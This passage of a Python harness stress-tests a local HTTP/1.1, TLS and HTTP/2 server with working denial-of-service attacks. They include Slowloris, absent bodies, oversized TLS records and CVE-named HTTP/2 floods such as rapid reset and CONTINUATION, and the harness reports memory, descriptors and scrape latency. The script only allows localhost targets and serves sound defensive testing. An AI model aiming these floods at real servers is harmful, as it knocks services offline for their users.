    """Slowloris: a byte a second keeps every timer happy that starts anew with each byte.
    So the limit must be on the whole head."""
    line = GET[:-2] + b"".join(b"X-%d: y\r\n" % i for i in range(100))
    return Shot([Conn(address, drip(line)) for _ in range(n)], "1 byte/s")


@attack("second head slow", "plain", 10, 1 + HEAD_LIMIT, slow=True)
def second_head_slow(address, n, _scale):
    """A good request first, then a slow one on the same connection: is the timer set again?"""
    return Shot([Conn(address, then(GET, 1.0, drip(GET[:-2] + b"X" * 100))) for _ in range(n)], "GET, then 1 byte/s")


@attack("slow body", "plain", 20, BODY_LIMIT, slow=True, floor=4)
def slow_body(address, n, _scale):
    """The head is complete at once, the body comes a byte a second, once of known length and once in chunks.
    If the path is off or wants a token, the answer comes at once; then the rest must not be waited for."""
    post = "POST /api/v1/messages HTTP/1.1"
    shapes = itertools.cycle((lambda: then(head(post, "Content-Length: 1000"), drip(b"{" * 1000)),
                              lambda: then(head(post, "Transfer-Encoding: chunked"), drip(b"1\r\n{\r\n" * 200))))
    return Shot([Conn(address, next(shapes)()) for _ in range(n)], "POST, 1 byte/s")


@attack("bodies that never come", "plain", 30, BODY_LIMIT, slow=True, floor=6)
def absent_bodies(address, n, _scale):
    """A declared length must not be reserved in advance: 4 GiB and more are declared, nothing is sent.
    Also one huge chunk, and 100-continue, where the client waits to be asked."""
    post = "POST /api/v1/messages HTTP/1.1"
    shapes = itertools.cycle((
        head(post, "Content-Length: 1000000"), head(post, "Content-Length: 5000000000"),
        head(post, "Content-Length: 9223372036854775807"),
        head(post, "Transfer-Encoding: chunked") + b"7fffffffffffffff\r\n",
        head(post, "Transfer-Encoding: chunked") + b"F",
        head(post, "Content-Length: 1000", "Expect: 100-continue")))
    return Shot([Conn(address, [next(shapes)]) for _ in range(n)], "1 MB to 2^63 declared")


@attack("PRI on plain, silence", "plain", 5, IDLE_LIMIT, slow=True)
def pri_on_plain(address, n, _scale):
    """HTTP/2 with prior knowledge on the plain port: refused, or a connection that idles."""
    return Shot([Conn(address, [PREFACE + settings()], seen=H1()) for _ in range(n)], "preface")


@attack("reads nothing", "plain", 100, STALL_LIMIT, slow=True)
def reads_nothing(address, n, scale):
    """An answer that nobody takes stays in the server's memory.
    200 requests each, as one page may fit into the kernel's buffers."""
    return Shot([Conn(address, [GET * 200], read=False, tight=True, since="progress") for _ in range(n)],
                "200 GET each, no read")


@attack("10,000 pipelined", "plain", 10, STALL_LIMIT, slow=True, floor=2)
def pipelined(address, n, scale):
    """Requests behind requests: if they are taken in faster than answers are taken out, answers pile up."""
    count = max(1000, int(10_000 * scale))
    return Shot([Conn(address, repeat(GET * 100, len(GET) * count), read=False, tight=True, since="progress")
                 for _ in range(n)], f"{count} GET each, no read")


@attack("idle connections", "plain", 3000, IDLE_LIMIT, slow=True, alone=True)
def idle_connections(address, n, _scale):
    """More connections than the server may want to hold, all silent; the scraper must find a place all the same."""
    return Shot([Conn(address) for _ in range(n)], "nothing")


# --- TLS


def client_hello():
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    half = tls_context("h2", "http/1.1").wrap_bio(incoming, outgoing, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        half.do_handshake()
    return outgoing.read()


@attack("plain HTTP on TLS", "tls", 10, HANDSHAKE_LIMIT)
def plain_on_tls(address, n, _scale):
    """The commonest mistake, and any scanner does it."""
    return Shot([Conn(address, [GET]) for _ in range(n)], "GET in the clear")


@attack("huge TLS records", "tls", 30, HANDSHAKE_LIMIT)
def huge_records(address, n, _scale):
    """Lengths above what TLS allows, with bytes behind; and a handshake message of 16 MiB in good records, for ever,
    which must not be collected."""
    body = b"\0" * 16384
    shapes = itertools.cycle((
        lambda: then(b"\x16\x03\x01\xff\xff", repeat(body)), lambda: then(b"\x17\x03\x03\xff\xff", repeat(body)),
        lambda: then(b"\x16\x03\x01\x40\x00\x01\xff\xff\xff" + body[4:], repeat(b"\x16\x03\x01\x40\x00" + body))))
    return Shot([Conn(address, next(shapes)()) for _ in range(n)], "65535-byte records; 16 MiB hello")


def stalls(address, n, what, sends):
    return Shot([Conn(address, sends()) for _ in range(n)], what)


@attack("TLS: silence", "tls", 15, HANDSHAKE_LIMIT, slow=True)
def tls_silence(address, n, _scale):
    """The timer must start with the connection, not with the first byte."""
    return stalls(address, n, "nothing", tuple)


@attack("TLS: half a ClientHello", "tls", 15, HANDSHAKE_LIMIT, slow=True)
def tls_half_hello(address, n, _scale):
    """A record that is begun is buffered; it must not be waited for without an end."""
    return stalls(address, n, "100 bytes of it", lambda: [client_hello()[:100]])


@attack("TLS: slow ClientHello", "tls", 15, HANDSHAKE_LIMIT, slow=True)
def tls_slow_hello(address, n, _scale):
    """A byte a second: the limit must be on the handshake, not on the silence."""
    return stalls(address, n, "1 byte/s", lambda: drip(client_hello()))


@attack("TLS: ClientHello, silence", "tls", 15, HANDSHAKE_LIMIT, slow=True)
def tls_full_hello(address, n, _scale):
    """The server has done its expensive part and keeps the state of the handshake."""
    return stalls(address, n, "a whole one", lambda: [client_hello()])


@attack("TLS: handshake, silence", "tls", 15, IDLE_LIMIT, slow=True)
def tls_then_silence(address, n, _scale):
    """Past the handshake the next timer must take over."""
    return Shot([Conn(address, tls="http/1.1") for _ in range(n)], "handshake")


@attack("TLS: reads nothing", "tls", 20, STALL_LIMIT, slow=True)
def tls_reads_nothing(address, n, _scale):
    """Between the answer and the socket there is TLS with a buffer of its own."""
    return Shot([Conn(address, [GET * 200], tls="http/1.1", read=False, tight=True, since="progress")
                 for _ in range(n)], "200 GET each, no read")


# --- HTTP/2, fast


def streams(count, of):
    """`of(stream)` for `count` streams, in pieces of some ten KiB."""
    for first in range(0, count, 200):
        yield b"".join(of(2 * number + 1) for number in range(first, min(first + 200, count)))


@attack("h2 rapid reset", "tls", 10, 3, must_end=False, floor=10)
def rapid_reset(address, n, scale):
    """CVE-2023-44487: a reset stream no longer counts, but its work may go on."""
    each = max(1, int(100_000 * scale / n))
    both = lambda stream: h2_get(stream) + frame(RST, 0, stream, struct.pack(">I", 8))
    return Shot([h2(address, streams(each, both)) for _ in range(n)], f"{each} streams each")


@attack("h2 PRIORITY flood", "tls", 4, 2, must_end=False, floor=2)
def priority_flood(address, n, scale):
    """Each may make the server keep a node of a tree for a stream that does not exist."""
    of = lambda stream: frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 15))
    return Shot([h2(address, streams(int(200_000 * scale), of)) for _ in range(n)], f"{int(200_000 * scale)} each")


@attack("h2 WINDOW_UPDATE flood", "tls", 4, 2, must_end=False, floor=2)
def window_flood(address, n, scale):
    """Each wakes whatever waits to be sent. For the connection, and for one open stream."""
    one = struct.pack(">I", 1)
    chunk = (frame(WINDOW, 0, 0, one) + frame(WINDOW, 0, 1, one)) * 500
    count = int(200_000 * scale)
    return Shot([h2(address, frame(HEADERS, END_HEADERS, 1, request_block("POST", "/api/v1/messages")),
                    repeat(chunk, 13 * count)) for _ in range(n)], f"{count} each")


@attack("h2 empty DATA flood", "tls", 4, 2, must_end=False, floor=2)
def empty_data(address, n, scale):
    """CVE-2019-9518: costs no window, so flow control does not slow it down. Also behind a finished stream."""
    count = int(200_000 * scale)
    return Shot([h2(address, frame(HEADERS, END_HEADERS, 1, request_block("POST", "/api/v1/messages")),
                    repeat(frame(DATA, 0, 1) * 1000, 9 * count)) for _ in range(n)], f"{count} each")


@attack("h2 CONTINUATION flood", "tls", 6, HEAD_LIMIT, floor=3)
def continuation_flood(address, n, _scale):
    """CVE-2024-27316 and kin: headers without END_HEADERS are collected until the block ends, and it never does.
    Large, tiny and empty frames, since limits on bytes do not see the last."""
    field = hpack(("x-a", "a" * 90))
    sizes = itertools.cycle((frame(CONTINUATION, 0, 1, field * 160), frame(CONTINUATION, 0, 1, hpack(("a", "b"))) * 1000,
                             frame(CONTINUATION, 0, 1) * 1500))
    # No acknowledgements: one between HEADERS and CONTINUATION would be an error of ours, and end the connection for that.
    return Shot([h2(address, frame(HEADERS, END_STREAM, 1, GET_BLOCK), repeat(next(sizes), 4 * MAX_SWALLOWED), seen=H2(acks=False))
                 for _ in range(n)],
                "until the server ends it", refused)


@attack("h2 header list over limit", "tls", 8, 2, must_end=False, floor=4)
def header_list(address, n, _scale):
    """A complete header block of 48 KiB, 256 KiB, 1 MiB (and 65 fields, which is only reported): decoded it is far
    larger than the frames if a table is used, so what counts is the list."""
    def sends(size, count):
        block = GET_BLOCK + hpack(*[(f"x-{i}", "a" * (size // count)) for i in range(count)])
        pieces = [block[at:at + 16384] for at in range(0, len(block), 16384)]
        for number, piece in enumerate(pieces):
            last = END_HEADERS if number == len(pieces) - 1 else 0
            yield frame(CONTINUATION, last, 1, piece) if number else frame(HEADERS, last | END_STREAM, 1, piece)
    shapes = ((48 << 10, 48), (256 << 10, 60), (1 << 20, 60), (650, MAX_HEADERS + 1))
    conns = [(shape, h2(address, sends(*shape), seen=H2(acks=False))) for shape, _ in zip(itertools.cycle(shapes), range(n))]

    def judge(_):
        for (size, count), conn in conns:
            shot.detail.append({"bytes": size, "fields": count, "statuses": dict(conn.seen.statuses),
                                "resets": dict(conn.seen.resets), "goaway": conn.seen.goaway, "end": conn.how})
        return refused([conn for (size, _), conn in conns if size > MAX_HEAD])

    shot = Shot([conn for _, conn in conns], "48 KiB to 1 MiB", judge)
    return shot


@attack("h2 too many streams", "tls", 4, 2, must_end=False, floor=2)
def too_many_streams(address, n, _scale):
    """Streams above what the server announced must be refused. A window of 0 keeps those open which it took."""
    opened = 1000
    def judge(conns):
        problems = []
        for conn in conns:
            seen = conn.seen
            over = sum(seen.resets.values())
            shot.detail.append({"announced": seen.max_streams, "opened": opened, "resets": dict(seen.resets),
                                "statuses": dict(seen.statuses), "goaway": seen.goaway, "end": conn.how})
            if seen.max_streams is None:
                problems.append("no SETTINGS_MAX_CONCURRENT_STREAMS announced")
            elif conn.how == "by us" and over < opened - seen.max_streams and seen.goaway is None:
                problems.append(f"announced {seen.max_streams}, of {opened} only {over} refused")
        return sorted(set(problems))

    # After a pause: before it has our acknowledgement a server may be lenient.
    shot = Shot([h2(address, 0.3, streams(opened, h2_get), opening=settings(initial_window=0)) for _ in range(n)],
                f"{opened} streams each", judge)
    return shot


# --- HTTP/2, slow


@attack("h2 zero window", "tls", 20, STALL_LIMIT, slow=True, floor=4)
def zero_window(address, n, _scale):
    """The connection itself flows, so a timer on the socket sees nothing stall; 100 answers wait on each.
    Every second one even answers pings."""
    return Shot([h2(address, streams(100, h2_get), opening=settings(initial_window=0), seen=H2(acks=number % 2 == 0))
                 for number in range(n)], "100 streams each, window 0")


@attack("h2 reads nothing", "tls", 10, STALL_LIMIT, slow=True, floor=2)
def h2_reads_nothing(address, n, _scale):
    """Large windows, so that all answers may be sent, and no read from the socket."""
    return Shot([h2(address, frame(WINDOW, 0, 0, struct.pack(">I", 2**31 - 65536)), streams(200, h2_get),
                    opening=settings(initial_window=2**31 - 1), read=False, tight=True, since="progress")
                 for _ in range(n)], "200 streams each, no read")


def unread_flood(address, n, scale, one):
    count = max(100_000, int(400_000 * scale))
    return Shot([h2(address, repeat(one * 1000, len(one) * count), read=False, tight=True, since="progress")
                 for _ in range(n)], f"{count} each, no read")


@attack("h2 SETTINGS flood", "tls", 4, STALL_LIMIT, slow=True, floor=2)
def settings_flood(address, n, scale):
    """CVE-2019-9515: each asks for an acknowledgement, which nobody reads: they must not queue up."""
    return unread_flood(address, n, scale, settings(initial_window=65535))


@attack("h2 PING flood", "tls", 4, STALL_LIMIT, slow=True, floor=2)
def ping_flood(address, n, scale):
    """CVE-2019-9512: the same with pings."""
    return unread_flood(address, n, scale, frame(PING, 0, 0, b"attacked"))


@attack("h2 no preface", "tls", 5, IDLE_LIMIT, slow=True)
def h2_no_preface(address, n, _scale):
    """ALPN says h2 and then nothing comes, so neither protocol's own timer may have been started."""
    return Shot([Conn(address, tls="h2") for _ in range(n)], "handshake")


@attack("h2 preface, silence", "tls", 5, IDLE_LIMIT, slow=True)
def h2_preface(address, n, _scale):
    """HTTP/2 has no timer on a request's head; something else must end a connection without one."""
    return Shot([h2(address, seen=H2(acks=False)) for _ in range(n)], "preface")


@attack("h2 half a frame", "tls", 5, IDLE_LIMIT, slow=True)
def h2_half_frame(address, n, _scale):
    """HEADERS of 16384 bytes of which 100 come."""
    start = frame(HEADERS, END_HEADERS, 1, GET_BLOCK + b"\0" * (16384 - len(GET_BLOCK)))[:109]
    return Shot([h2(address, start, seen=H2(acks=False)) for _ in range(n)], "preface, 100 of 16384 bytes")


@attack("h2 headers, no body", "tls", 10, BODY_LIMIT, slow=True)
def h2_absent_body(address, n, _scale):
    """A POST without END_STREAM: an open stream, which may count as not idle."""
    block = request_block("POST", "/api/v1/messages", ("content-length", "1000000"))
    return Shot([h2(address, frame(HEADERS, END_HEADERS, 1, block)) for _ in range(n)], "POST without its body")


@attack("h2 idle, answers pings", "tls", 6, IDLE_LIMIT, slow=True, floor=2)
def h2_idle(address, n, _scale):
    """A living client that never asks anything takes a place all the same. Some send pings of their own."""
    own = lambda: itertools.chain.from_iterable((frame(PING, 0, 0, b"stillon!"), 1.0) for _ in range(600))
    return Shot([h2(address, *([own()] if number % 2 else [])) for number in range(n)], "acks; half send PING 1/s")


@attack("h2 idle after a request", "tls", 5, IDLE_LIMIT, slow=True)
def h2_idle_after(address, n, _scale):
    """One good request, then nothing but acknowledgements."""
    return Shot([h2(address, h2_get(1)) for _ in range(n)], "one GET")


# ---------------------------------------------------------------------------------------------- running them


def spread(values):
    low, high = min(values), max(values)
    return f"{low:.1f} s" if high - low < 0.15 else f"{low:.1f}-{high:.1f} s"


def brief(number):
    return f"{number / 2**20:.1f} MiB" if number >= 2**20 else f"{number / 1024:.1f} KiB" if number >= 10240 else f"{number} B"


class Run:
    COLUMNS = (("attack", 26), ("sent", 50), ("ended", 64), ("RSS +MiB", 8), ("fds", 5), ("scrape med/max ms", 17), ("verdict", 7))

    def __init__(self, options):
        self.options, self.rows, self.notes = options, [], []
        self.addresses = {"plain": options.plain, "tls": options.tls}
        plain = Process(options.pid)
        tls = plain if options.pid_tls in (None, options.pid) else Process(options.pid_tls)
        self.processes = {"plain": plain, "tls": tls}
        self.engine = Engine()
        self.watcher = Watcher(self.engine, {plain, tls}, {options.plain[1], options.tls[1]})
        self.scrapers = {port: Scraper(address, port == "tls", options.scrape_limit)
                         for port, address in self.addresses.items()}
        # How long a slow attack may unfold by itself before the next one is started beside it.
        self.window = 1.2 if options.scale >= 0.5 else 0.6

    def size(self, entry):
        return max(entry.floor, round(entry.count * self.options.scale)) if entry.count else 0

    def start(self, entry):
        process = self.processes[entry.port]
        exact = process.reset_peak()
        before = process.memory()[0]
        started = time.monotonic()
        fds = process.descriptors()
        shot = entry.function(self.addresses[entry.port], self.size(entry), self.options.scale)
        self.engine.open(shot.conns)
        return {"entry": entry, "shot": shot, "before": before, "started": started, "exact": exact, "fds_before": fds}

    def measure(self, state):
        """Memory and descriptors between the attack's start and now."""
        process, now = self.processes[state["entry"].port], time.monotonic()
        samples = [sample for sample in list(process.samples) if state["started"] <= sample[0] <= now]
        peak = max([rss for _, rss, _ in samples] + [process.memory()[1 if state["exact"] else 0]])
        state["growth"] = (peak - state["before"]) / 1024
        state["fds"] = max([fds for _, _, fds in samples] + [process.descriptors()])

    def wait(self, states):
        """Until every connection has ended, or has passed its limit."""
        while not self.watcher.gone:
            if self.engine.failure:
                sys.exit(f"the attacker's own thread failed: {self.engine.failure!r}")
            now, waiting = time.monotonic(), False
            for state in states:
                entry = state["entry"]
                limit = entry.limit + (GRACE if entry.must_end else 0)
                alive = [conn for conn in state["shot"].conns
                         if not conn.ended and (entry.must_end or not conn.is_quiet())
                         and now < min(conn.start_of_limit() + limit, state["started"] + 2 * limit)]
                waiting |= bool(alive)
                if not alive:
                    state.setdefault("over", now)
            if not waiting:
                return
            time.sleep(0.05)

    def finish(self, state):
        """Closes what is left, and makes the row."""
        entry, shot = state["entry"], state["shot"]
        state.setdefault("over", time.monotonic())
        left = [conn for conn in shot.conns if not conn.ended]
        queued = [conn for conn in left
                  if not conn.connected or self.watcher.held.get((conn.port, conn.address[1])) is False]
        self.engine.drop(left)
        while any(conn in self.engine.conns for conn in left):
            time.sleep(0.02)
        problems = []
        if self.watcher.gone:
            problems.append("THE PROCESS IS GONE")
        if any(conn.how.startswith("no ALPN") or "NO_APPLICATION_PROTOCOL" in conn.cause for conn in shot.conns):
            problems.append("ALPN h2 is not offered")
        if entry.must_end:
            open_still = len(left) - len(queued)
            if open_still:
                problems.append(f"{open_still} still open {entry.limit}+{GRACE} s later")
            late = [conn.ended - conn.start_of_limit() for conn in shot.conns
                    if conn.how != "by us" and conn.ended - conn.start_of_limit() > entry.limit + GRACE + 0.5]
            if late:
                problems.append(f"{len(late)} ended after {spread(late)}")
        if queued:
            self.notes.append(f"{entry.name}: {len(queued)} connections were never accepted, they waited in the kernel's queue")
        if shot.judge:
            problems += shot.judge(shot.conns)
        if state["growth"] > self.options.rss_limit:
            problems.append(f"memory grew by {state['growth']:.0f} MiB")
        scrapes = self.scrapers[entry.port].within(state["started"], state["over"])
        failed = [error for _, _, error in scrapes if error]
        times = [1000 * (end - start) for start, end, _ in scrapes]
        if failed:
            problems.append(f"{len(failed)} of {len(scrapes)} scrapes failed ({failed[0]})")
        if not scrapes:
            problems.append("no scrape came to an end")
        self.row(entry.name, self.sent(shot), self.ended(shot.conns), state["growth"], state["fds"], times, problems,
                 shot.detail)

    def sent(self, shot):
        total = sum(conn.sent for conn in shot.conns)
        return f"{len(shot.conns)} conn, {brief(total)}: {shot.what}" if shot.conns else shot.what

    def ended(self, conns):
        groups, said = collections.defaultdict(list), []
        for conn in conns:
            how = {"by us": "open still", "cut": "cut", "closed": "closed"}.get(conn.how, conn.how)
            groups[how].append(conn.ended - conn.start_of_limit())
        for how, times in sorted(groups.items(), key=lambda group: -len(group[1])):
            said.append(f"{len(times)} {how} {spread(times)}")
        statuses, resets, goaways = collections.Counter(), collections.Counter(), collections.Counter()
        for conn in conns:
            statuses.update(conn.seen.statuses)
            if isinstance(conn.seen, H2):
                resets.update(conn.seen.resets)
                goaways.update([conn.seen.goaway] if conn.seen.goaway is not None else [])
        if statuses:
            said.append("answered " + " ".join(f"{status}x{n}" for status, n in statuses.most_common(4)))
        for name, codes in (("RST", resets), ("GOAWAY", goaways)):
            said += [f"{name} {code}x{n}" for code, n in codes.most_common(2)]
        return "; ".join(said) or "at once by us"

    def row(self, name, sent, ended, growth, fds, times, problems, detail=()):
        verdict = "FAIL" if problems else "ok"
        middle, most = (statistics.median(times), max(times)) if times else (float("nan"), float("nan"))
        self.rows.append({"attack": name, "sent": sent, "ended": ended, "rss_growth_mib": round(growth, 2), "fds_peak": fds,
                          "scrapes": len(times), "scrape_median_ms": round(middle, 2), "scrape_max_ms": round(most, 2),
                          "verdict": verdict, "problems": problems, "detail": list(detail)})
        cells = (name, sent, ended, f"{growth:.1f}", str(fds), f"{middle:.1f} / {most:.0f}", verdict)
        print(" | ".join(cell.ljust(width) for cell, (_, width) in zip(cells, self.COLUMNS)), flush=True)
        for problem in problems:
            print(f"      ! {problem}", flush=True)

    def quiet(self, entry, state):
        """Until the server has noticed that the attack is over, so that the next one starts from the same ground."""
        process, until = self.processes[entry.port], time.monotonic() + 2
        while process.descriptors() > state["fds_before"] + 2 and time.monotonic() < until:
            time.sleep(0.05)

    def fast(self, entry):
        state = self.start(entry)
        self.wait([state])
        # Long enough for some scrapes during and just behind it.
        time.sleep(max(0.0, state["started"] + 0.6 - time.monotonic()))
        state["over"] = time.monotonic()
        with contextlib.suppress(OSError):
            self.measure(state)
        self.finish(state)
        with contextlib.suppress(OSError):
            self.quiet(entry, state)

    def waves(self, entries):
        """Slow attacks in groups that together stay below what a server may allow. Those with the longest limits
        start first, so that nothing is released while a later one is measured."""
        wave, taken, shared = [], collections.Counter(), self.processes["plain"] is self.processes["tls"]
        for entry in sorted(entries, key=lambda entry: -entry.limit):
            where = "both" if shared else entry.port
            if wave and (entry.alone or taken[where] + self.size(entry) > WAVE_CONNECTIONS):
                continue
            if entry.alone and len(entries) > 1 and any(not other.alone for other in entries):
                continue
            wave.append(entry)
            taken[where] += self.size(entry)
            if entry.alone:
                break
        rest = [entry for entry in entries if entry not in wave]
        return [wave] + (self.waves(rest) if rest else [])

    def slow(self, wave):
        states = []
        first = {process: (process.reset_peak(), process.memory()[0])[1] for process in self.processes.values()}
        started, fds = time.monotonic(), {process: process.descriptors() for process in first}
        for entry in wave:
            state = self.start(entry)
            states.append(state)
            until = time.monotonic() + 5
            time.sleep(self.window)
            while any(conn.state != "open" and not conn.ended for conn in state["shot"].conns) and time.monotonic() < until:
                time.sleep(0.05)
            with contextlib.suppress(OSError):
                self.measure(state)
        self.wait(states)
        over = time.monotonic()
        for state in states:
            self.finish(state)
        if len(states) > 1:
            self.together(states, first, started, over)
        for process, count in fds.items():
            until = time.monotonic() + 2
            while process.descriptors() > count + 2 and time.monotonic() < until:
                time.sleep(0.05)

    def together(self, states, first, started, over):
        """The wave as a whole, since its attacks were measured only while each began."""
        for process, before in first.items():
            ports = [port for port, other in self.processes.items() if other is process]
            mine = [state for state in states if state["entry"].port in ports]
            if not mine:
                continue
            samples = [sample for sample in list(process.samples) if started <= sample[0] <= over]
            scrapes = [scrape for port in ports for scrape in self.scrapers[port].within(started, over)]
            growth = (max(rss for _, rss, _ in samples) - before) / 1024
            problems = [f"{sum(1 for *_, error in scrapes if error)} scrapes failed"] if any(e for *_, e in scrapes) else []
            if growth > self.options.rss_limit * len(mine):
                problems.append(f"memory grew by {growth:.0f} MiB")
            self.row(f"= {len(mine)} together", f"{'+'.join(ports)}, {over - started:.0f} s", "", growth,
                     max(fds for _, _, fds in samples), [1000 * (end - start) for start, end, _ in scrapes], problems)

    def self_check(self):
        """One correct request each way: if our own framing is wrong, every attack would look borne."""
        for port, scraper in self.scrapers.items():
            try:
                page = scraper.once()
            except Exception as error:
                self.fail(f"a plain scrape over {port} HTTP/1.1 failed: {error!r}")
            print(f"self-check: {port} HTTP/1.1: 200, {len(page)} bytes of metrics")
        front = Conn(self.addresses["plain"], [SMUGGLING["control: two requests"][1].encode()])
        # Several, since who speaks first after the handshake is a race that must not matter.
        seconds = [h2(self.addresses["tls"], h2_get(1)) for _ in range(10)]
        self.engine.open([front, *seconds])
        until = time.monotonic() + 5
        while time.monotonic() < until and not (
                len(front.seen.order) == 2 and all(conn.ended or conn.seen.done for conn in seconds)):
            time.sleep(0.02)
        bad = [conn for conn in seconds if conn.seen.statuses != {200: 1} or not conn.seen.body or not conn.seen.done]
        conn = (bad or seconds)[0]
        h2_offered = not (conn.how or "").startswith("no ALPN") and "NO_APPLICATION_PROTOCOL" not in conn.cause
        result = f"statuses {dict(conn.seen.statuses)}, {conn.seen.body} bytes, resets {dict(conn.seen.resets)}, " \
                 f"GOAWAY {conn.seen.goaway}, {conn.how or 'open'} {conn.cause}, streams announced {conn.seen.max_streams}"
        self.engine.drop([front, *seconds])
        order = front.seen.order
        if len(order) != 2 or order[0] == 200 or order[1] != 200:
            self.fail(f"POST /smuggle-front with GET /metrics behind it gave {order} instead of [not 200, 200]: "
                      "the smuggling rows could not tell who was answered")
        print(f"self-check: pipelined: {order}")
        if not h2_offered:
            print("self-check: ALPN h2 is NOT OFFERED: all h2 rows will fail")
        elif bad:
            self.fail("h2 GET /metrics: " + result)
        else:
            print("self-check: TLS h2:", result)

    @staticmethod
    def fail(text):
        print("SELF-CHECK FAILED:", text, file=sys.stderr)
        sys.exit(2)

    def all(self):
        began = time.monotonic()
        self.engine.start()
        self.self_check()
        self.watcher.start()
        for scraper in self.scrapers.values():
            scraper.start()
        time.sleep(1.0)  # some scrapes in peace: what they allocate is no attack's
        ground = {process: process.memory()[0] for process in self.processes.values()}
        peace = {port: scraper.within(0, time.monotonic()) for port, scraper in self.scrapers.items()}
        for port, results in peace.items():
            print(f"in peace: {port}: scrape median {statistics.median(1000 * (e - s) for s, e, _ in results):.1f} ms, "
                  f"RSS {ground[self.processes[port]] / 1024:.1f} MiB, {self.processes[port].descriptors()} fds")
        print(" | ".join(name.ljust(width) for name, width in self.COLUMNS))
        only = [part.strip().lower() for part in self.options.only.split(",")] if self.options.only else [""]
        skip = [part.strip().lower() for part in self.options.skip.split(",")] if self.options.skip else []
        chosen = [entry for entry in ATTACKS if any(part in entry.name.lower() for part in only)
                  and not any(part in entry.name.lower() for part in skip)]
        if not chosen:
            sys.exit("no attack has such a name; see --list")
        for entry in chosen:
            if not entry.slow and not self.watcher.gone:
                self.fast(entry)
        slow = [entry for entry in chosen if entry.slow]
        for wave in self.waves(slow) if slow else []:
            if not self.watcher.gone:
                self.slow(wave)
        if not self.watcher.gone:
            self.aftermath(ground)
        for note in self.notes:
            print("note:", note)
        failed = [row["attack"] for row in self.rows if row["problems"]]
        if self.watcher.gone:
            failed.append("the process is gone")
        print(f"{len(self.rows) - len(failed)} of {len(self.rows)} rows passed in {time.monotonic() - began:.0f} s"
              + (f"; FAILED: {', '.join(failed)}" if failed else ""))
        if self.options.json:
            with open(self.options.json, "w") as file:
                json.dump({"scale": self.options.scale, "seconds": round(time.monotonic() - began, 1), "rows": self.rows,
                           "notes": self.notes}, file, indent=1)
        return 1 if failed else 0

    def aftermath(self, ground):
        """What stays behind when all is over: growth that adds up from attack to attack is seen only here."""
        for process, before in ground.items():
            ports = [port for port, other in self.processes.items() if other is process]
            started = time.monotonic()
            time.sleep(1.0)
            samples = [sample for sample in list(process.samples) if sample[0] >= started]
            scrapes = [scrape for port in ports for scrape in self.scrapers[port].within(started, time.monotonic())]
            growth = (process.memory()[0] - before) / 1024
            fds = max(fds for _, _, fds in samples)
            problems = [f"{sum(1 for *_, e in scrapes if e)} scrapes failed"] if any(e for *_, e in scrapes) else []
            if growth > self.options.rss_limit:
                problems.append(f"{growth:.0f} MiB more than before everything")
            peak = max(rss for _, rss, _ in process.samples) / 1024
            self.row("= afterwards", f"{'+'.join(ports)}: RSS before {before / 1024:.1f}, peak {peak:.1f}, "
                     f"now {before / 1024 + growth:.1f} MiB", "", growth, fds,
                     [1000 * (end - start) for start, end, _ in scrapes], problems)


def address(text):
    host, _, port = text.rpartition(":")
    host = host.strip("[]")
    if host not in ("127.0.0.1", "::1", "localhost"):
        raise argparse.ArgumentTypeError("only this machine is attacked")
    return "127.0.0.1" if host == "localhost" else host, int(port)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--plain", type=address)
    parser.add_argument("--tls", type=address)
    parser.add_argument("--pid", type=int)
    parser.add_argument("--pid-tls", type=int)
    parser.add_argument("--scale", type=float, default=1.0)
    parser.add_argument("--only", help="parts of names, separated by commas")
    parser.add_argument("--skip", help="the same, for those to leave out")
    parser.add_argument("--json")
    parser.add_argument("--scrape-limit", type=float, default=5)
    parser.add_argument("--rss-limit", type=float, default=64)
    parser.add_argument("--list", action="store_true")
    options = parser.parse_args()
    if options.list:
        for entry in ATTACKS:
            print(f"{entry.port:6} {'slow' if entry.slow else 'fast'} {entry.count:5}  {entry.name}")
        return 0
    if not (options.plain and options.tls and options.pid):
        parser.error("--plain, --tls and --pid are needed")
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    sys.setswitchinterval(0.0005)  # the scraper shares the interpreter with the floods
    return Run(options).all()


if __name__ == "__main__":
    sys.exit(main())
